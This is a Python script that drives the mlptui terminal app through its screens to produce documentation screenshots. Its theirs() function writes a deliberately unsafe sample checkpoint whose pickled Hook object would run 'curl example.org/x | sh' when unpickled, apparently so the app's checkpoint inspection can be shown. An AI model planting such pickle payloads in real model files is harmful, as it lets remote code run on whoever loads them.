"""Make the pictures in assets/ from the real program: a real run on the sample, seen on its screens.

Run as `make screenshots`; takes about half a minute.
"""

import asyncio
import os
import sys
import tempfile
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
ASSETS = ROOT / "assets"


async def take(home: Path) -> None:
    from mlptui.store import paths, rundir, settings
    from mlptui.tui.app import MlptuiApp

    places = paths.find()
    for size, suffix in (((80, 24), "80x24"), ((160, 45), "160x45")):
        app = MlptuiApp(places, settings.Settings())
        async with app.run_test(size=size) as pilot:

            async def shot(name: str, app: MlptuiApp = app, suffix: str = suffix) -> None:
                svg = app.export_screenshot(title="mlptui")
                (ASSETS / f"{name}-{suffix}.svg").write_text(svg)

            async def wait(seconds: float, pilot=pilot) -> None:  # type: ignore[no-untyped-def]
                until = time.monotonic() + seconds
                while time.monotonic() < until:
                    await pilot.pause(0.05)

            await wait(0.5)
            app.desk.tell("")
            await shot("form")
            await pilot.press("1")
            await wait(2.0)
            app.desk.tell("")
            await shot("data")
            await pilot.press("2")
            await wait(5.0)
            await pilot.press("o")
            await wait(0.5)
            app.focused.insert_text_at_cursor("lenet")  # type: ignore[union-attr]
            await pilot.press("enter")
            await wait(2.0)
            for _ in range(2):
                await pilot.press("down")
            if size[0] > 100:
                await pilot.press("F")
            await wait(2.0)
            app.desk.tell("")
            await shot("model")
            app.form.set("architecture", app.form.default("architecture"))
            await pilot.press("3")
            await wait(3.0)
            for _ in range(8):
                await pilot.press("N")
            await wait(8.0)
            for _ in range(4 if size[0] > 100 else 0):
                await pilot.press("v")
            await wait(2.0)
            app.desk.tell("")
            await shot("params")
            await pilot.press("5")
            await wait(1.0)
            await shot("runs")
            await pilot.press("6")
            await wait(1.5)
            await pilot.press("v")
            await wait(1.5)
            await pilot.press("o")
            await wait(0.5)
            app.focused.value = str(home / "theirs.ckpt")  # type: ignore[union-attr]
            await pilot.press("enter")
            await wait(1.0)
            app.desk.tell("")
            await shot("files")
            await pilot.press("l")
            await wait(3.0)
            await shot("plan")
            await pilot.press("escape")
            await wait(0.5)
            await pilot.press("escape")
            app.action_area("train")
            app.train_screen.watch_run(rundir.all_runs(places)[0])
            await wait(3.0)
            app.desk.tell("")
            await shot("train")
            await pilot.press("7")
            await wait(2.5)
            await shot("devices")


def theirs(file: Path) -> None:
    """What a stranger's training left: other names, another last layer, and something that would run when it is unpickled."""
    import torch
    from torch import nn

    class Hook:
        def __reduce__(self) -> tuple[object, ...]:
            return os.system, ("curl example.org/x | sh",)

    torch.manual_seed(0)
    net = nn.Sequential(nn.Linear(784, 256), nn.ReLU(), nn.Linear(256, 12))
    state = {f"module._orig_mod.{name}": tensor for name, tensor in net.state_dict().items()}
    torch.save({"state_dict": state, "epoch": 12, "hyper_parameters": {"lr": 0.1}, "callbacks": Hook()}, file)


def main() -> None:
    with tempfile.TemporaryDirectory() as folder:
        os.environ["MLPTUI_HOME"] = folder
        from mlptui.cli.main import main as mlptui

        ASSETS.mkdir(exist_ok=True)
        assert mlptui(["train", "--epochs", "5", "--wait"]) == 0
        assert mlptui(["train", "--epochs", "3", "--wait", "--optimizer", "adam", "--name", "with adam"]) == 0
        assert mlptui(["train", "--epochs", "2000", "--detach", "--schedule", "cosine"]) == 0
        from mlptui.store import paths, rundir

        theirs(Path(folder) / "theirs.ckpt")
        run = rundir.all_runs(paths.find())[0]
        while run.state().epoch < 30:
            time.sleep(0.1)
        try:
            asyncio.run(take(Path(folder)))
        finally:
            mlptui(["runs", "stop", run.id])
            while run.verdict().trainer_alive:
                time.sleep(0.1)


if __name__ == "__main__":
    sys.exit(main())
